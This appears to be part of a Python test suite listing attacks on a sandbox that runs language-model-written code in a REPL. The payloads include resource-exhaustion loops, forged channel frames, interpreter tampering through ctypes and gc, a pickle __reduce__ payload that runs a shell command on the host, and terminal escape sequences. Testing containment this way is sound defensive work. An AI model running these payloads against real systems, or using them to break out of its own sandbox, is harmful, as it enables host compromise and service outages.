    Attack("resources", "leaves threads running", STUCK, """
def run():
    while True: pass
for _ in range(4): threading.Thread(target=run, daemon=True).start()""", silent=True),
)

CHANNEL = (
    Attack("channel", "forges an answer to another question", STUCK, """
send(b'{"op":"loaded","re":999,"type":"","size":"","preview":""}')
time.sleep(20)""", silent=True, max_time=2.0),
    Attack("channel", "sends a frame of four gigabytes", STUCK, """
os.write(channel(), b'\\xff' * 1000)
time.sleep(20)""", silent=True, max_time=2.0),
    Attack("channel", "sends what is not JSON", STUCK,
           "send(b'\\xff\\xfe\\0[')\ntime.sleep(20)", silent=True, max_time=2.0),
    Attack("channel", "sends a frame that nobody knows", STUCK, """
send(b'{"op":"sudo"}')
time.sleep(20)""", silent=True, max_time=2.0),
    Attack("channel", "sends JSON nested a million deep", STUCK, """
send(b'{"op":"failed","re":1,"error":' + b'[' * 500_000 + b']' * 500_000 + b'}')
time.sleep(20)""", silent=True, max_time=2.0),
    Attack("channel", "sends numbers that no machine has", STUCK, """
for number in (b'1e999', b'NaN', b'-1', b'9' * 5000, b'1.5', b'"1"', b'null'):
    send(b'{"op":"part","of":' + number + b'}')
time.sleep(20)""", silent=True, max_time=2.0),
    Attack("channel", "begins a frame and stalls", STUCK, """
os.write(channel(), struct.pack('<II', 100, 0))
while True:
    try: time.sleep(1)
    except BaseException: pass""", silent=True, max_time=0.3),
    Attack("channel", "says that it is ready, again", STUCK,
           'send(b\'{"op":"ready"}\')\ntime.sleep(20)', silent=True, max_time=2.0),
    Attack("channel", "sends parts of values without end", STUCK, """
for number in range(2000):
    send(b'{"op":"part","of":%d}' % number, bytes(1 << 20))""", silent=True),
    Attack("channel", "asks without end", STUCK, """
for number in range(20_000):
    send(b'{"op":"llm_query","id":%d,"model":null,"schema":null}' % number, b'x')""", silent=True, max_time=5.0),
    Attack("channel", "asks for much and reads none of it", STUCK, """
end, write = channel(), ctypes.PyDLL(None).write  # keeps the interpreter, so that no other thread reads
for number in range(200):
    header, body = b'{"op":"llm_query","id":%d,"model":null,"schema":null}' % number, bytes(1 << 20)
    data = struct.pack('<II', len(header), len(body)) + header + body
    write(end, data, ctypes.c_size_t(len(data)))""", silent=True, max_time=2.0),
    Attack("channel", "hangs up", STUCK, """
for end in channels():
    os.dup2(0, end)
time.sleep(20)""", silent=True, max_time=2.0),
    Attack("channel", "shuts down one direction", STUCK, """
end = line()
if end:
    end.shutdown(socket.SHUT_WR)
else:
    os.dup2(0, channel(os.O_RDONLY))
time.sleep(20)""", silent=True, max_time=2.0),
    Attack("channel", "reads what is meant for its worker", STUCK, """
end = channel(os.O_RDONLY)
os.set_blocking(end, False)
def read():
    while True:
        try: os.read(end, 1 << 16)
        except OSError: pass
threading.Thread(target=read, daemon=True).start()
print('tried')""", silent=True, spoils=True),
    Attack("channel", "closes every descriptor", STUCK, "os.closerange(0, 1024)", silent=True),
)

INTERPRETER = (
    Attack("interpreter", "replaces functions that its worker needs", STUCK, """
import json, struct
json.dumps = json.loads = struct.pack = struct.unpack = lambda *_, **__: None
socket.socket.sendall = socket.socket.recv = lambda *_: b''
os.read = os.write = os.close = lambda *_: 0""", silent=True, spoils=True, max_time=1.0),
    Attack("interpreter", "removes modules and built-ins", STUCK, """
sys.modules.clear()
builtins.__dict__.clear()""", silent=True, spoils=True),
    Attack("interpreter", "changes the objects that its worker runs on", STUCK, """
import gc
for item in gc.get_objects():
    if type(item).__name__ in ('Worker', 'Channel', 'Capture', 'Names') and hasattr(item, '__dict__'):
        for name in list(vars(item)):
            setattr(item, name, None)""", silent=True, spoils=True),
    Attack("interpreter", "hooks every event", STUCK, """
def hook(*_):
    raise RuntimeError('no')
sys.addaudithook(hook)""", silent=True, spoils=True),
    Attack("interpreter", "traces every line", STUCK, """
def trace(*_):
    raise RuntimeError('no')
threading.settrace(trace)
sys.settrace(trace)
sys.setprofile(trace)""", silent=True, spoils=True),
    Attack("interpreter", "interrupts itself a thousand times a second", STUCK, """
def raise_it(*_):
    raise OSError('no')
signal.signal(signal.SIGALRM, raise_it)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)""", silent=True, spoils=True),
    Attack("interpreter", "closes or replaces its outputs", STUCK, """
sys.stdout.close()
sys.stderr = sys.stdout = sys.__stdout__ = sys.__stderr__ = None
os.close(1)
os.close(2)""", silent=True, spoils=True),
    Attack("interpreter", "lets no other thread run", STUCK, """
sys.setswitchinterval(1e6)
while True: pass""", silent=True, spoils=True, max_time=0.3),
    Attack("interpreter", "overwrites its own memory", STUCK, """
ctypes.memset(id(None), 255, 16)
ctypes.memset(id(type), 255, 1 << 12)""", silent=True, spoils=True),
    Attack("interpreter", "makes names of the REPL something else", STUCK, """
FINAL = llm_query = answer = context = print = None
__builtins__ = __name__ = 5""", silent=True, spoils=True),
)

VALUES = (
    Attack("values", "answers with what unpickling would run", "a command of its own runs on the host", """
FINAL(evil(__reduce__=lambda self: (os.system, ('touch ' + FOLDER + '/' + MARK,)))())""", silent=True),
    Attack("values", "answers with lists a million deep", STUCK, """
value = []
for _ in range(1_000_000): value = [value]
FINAL(value)""", silent=True),
    Attack("values", "answers with what contains itself", STUCK, """
value = {}
value['self'] = [value]
FINAL(value)""", silent=True),
    Attack("values", "answers with a number of ten million digits", STUCK,
           "FINAL(1 << 33_000_000)", silent=True),
    Attack("values", "answers with numbers that are dear to compute with", STUCK, """
import datetime, decimal, fractions
FINAL([decimal.Decimal('1e999999999'), decimal.Decimal('-1e-999999999'), fractions.Fraction(1, 7 ** 2000),
       float('nan'), float('inf'), 2 ** 4000, datetime.timedelta.max,
       datetime.datetime.max, complex('nan')])""", silent=True),
    Attack("values", "answers with an object that lies about itself", STUCK, """
def loop(*_):
    while True: pass
lie = property(lambda self: str)
FINAL(evil(__class__=lie, __repr__=loop, __len__=lambda self: 1 << 40, __iter__=loop)())""", silent=True, max_time=0.5),
    Attack("values", "answers with a text that lies about itself", STUCK, """
text = evil(base=str, __len__=lambda self: 1 << 40, encode=lambda *_: b'x' * (1 << 20), __str__=lambda self: 5)('x')
FINAL([text, evil(base=int, __index__=lambda self: 'x', __int__=lambda self: 1 << 70)(1)])""", silent=True),
    Attack("values", "answers with a dict that never ends", STUCK, """
import itertools
forever = lambda self: ((str(n), n) for n in itertools.count())
FINAL(evil(base=dict, items=forever, __len__=lambda self: 1)(a=1))""", silent=True, max_time=0.5),
    Attack("values", "answers with a date whose zone is evil", STUCK, """
import datetime
zone = evil(base=datetime.tzinfo, utcoffset=lambda *_: os._exit(3), tzname=lambda *_: 'x' * (1 << 20))()
FINAL(datetime.datetime(1, 1, 1, tzinfo=zone))""", silent=True),
    Attack("values", "answers with keys that all collide", STUCK,
           "FINAL({n * (2 ** 61 - 1) for n in range(5000)})", silent=True),
    Attack("values", "answers with very many small values", STUCK,
           "FINAL([{'a': [n]} for n in range(200_000)])", silent=True),
    Attack("values", "answers with a text of 100 MB", STUCK, "FINAL('x' * 100_000_000)", silent=True),
    Attack("values", "answers with characters that are none", STUCK,
           "FINAL({chr(0xD800) + chr(0): chr(0xDFFF) * 1000})", silent=True),
    Attack("values", "answers from many threads at once", STUCK, """
for number in range(50): threading.Thread(target=FINAL, args=(number,)).start()
FINAL('x')""", silent=True),
    Attack("values", "asks with arguments that are evil", STUCK, """
for ask in (lambda: llm_query(evil(base=str, encode=lambda *_: 5)('x')), lambda: llm_query('x', model=5),
            lambda: llm_query('x', schema={'$ref': '#'}), lambda: rlm_query('x', [[]] * 1000),
            lambda: llm_query_batched(5), lambda: llm_query('x' * 30_000_000)):
    try: print('tried', str(ask())[:50])
    except Exception as error: print('tried', type(error), str(error)[:50])""", silent=True),
)

OUTPUT = (
    Attack("output", "raises what cannot be printed", STUCK, """
def explode(*_): raise SystemExit('no')
raise evil(base=BaseException, __str__=explode, __repr__=explode)()""", silent=True),
    Attack("output", "raises a text of a hundred megabytes", STUCK,
           "raise ValueError('x' * 100_000_000)", silent=True),
    Attack("output", "raises errors that cause each other in a circle", STUCK, """
one, two = ValueError('1'), ValueError('2')
one.__cause__, two.__cause__ = two, one
raise one""", silent=True),
    Attack("output", "raises errors nested thousands deep", STUCK, """
error = ValueError('x')
for _ in range(3000):
    outer = ValueError('y')
    outer.__context__ = error
    error = outer
raise error""", silent=True),
    Attack("output", "raises an error with evil notes", STUCK, """
error = ValueError('x')
error.__notes__ = [evil(__str__=lambda self: os._exit(3))(), 'x' * 10_000_000, None]
raise error""", silent=True),
    Attack("output", "shows a value whose text never ends", STUCK, """
def loop(*_):
    while True: pass
evil(__repr__=loop)()""", silent=True, max_time=0.3),
    Attack("output", "shows a value nested too deep", STUCK, """
value = []
for _ in range(100_000): value = [value]
value""", silent=True),
    Attack("output", "does not compile", STUCK, "(" * 100_000, silent=True),
    Attack("output", "makes the compiler recurse", STUCK, "-" * 100_000 + "1", silent=True),
    Attack("output", "prints 500 MB", STUCK, "for _ in range(500): print('x' * 1_000_000)", silent=True),
    Attack("output", "prints very many lines", STUCK, "for n in range(300_000): print(n)", silent=True),
    Attack("output", "writes 200 MB to its descriptors", STUCK, """
for _ in range(100):
    os.write(1, bytes(1_000_000))
    os.write(2, bytes(1_000_000))""", silent=True),
    Attack("output", "prints what terminals obey", STUCK, """
escape = chr(27)
print('tried', escape + ']52;c;ZXZpbA==' + chr(7) + escape + '[2J', chr(0x9b) + '31m', chr(0x202e), chr(0), chr(13))
os.write(2, bytes(range(256)))"""),
    Attack("output", "prints characters that are none", STUCK, "print('tried', chr(0xD800), chr(0xDFFF))"),
    Attack("output", "prints a text that lies about itself", STUCK, """
print(evil(base=str, __len__=lambda self: -1, __getitem__=lambda *_: 5, encode=lambda *_: 5)('tried'))"""),
)

# fmt: on
ATTACKS: tuple[Attack, ...] = (
    *FILES,
    *SECRETS,
    *NETWORK,
    *PROCESSES,
    *KERNEL,
    *RESOURCES,
    *CHANNEL,
    *INTERPRETER,
    *VALUES,
    *OUTPUT,
)  # fmt: skip
"""All of them."""
QUICK = tuple(attack for attack in ATTACKS if attack.quick)
"""Those that a user wants to see tried, in a second in all."""
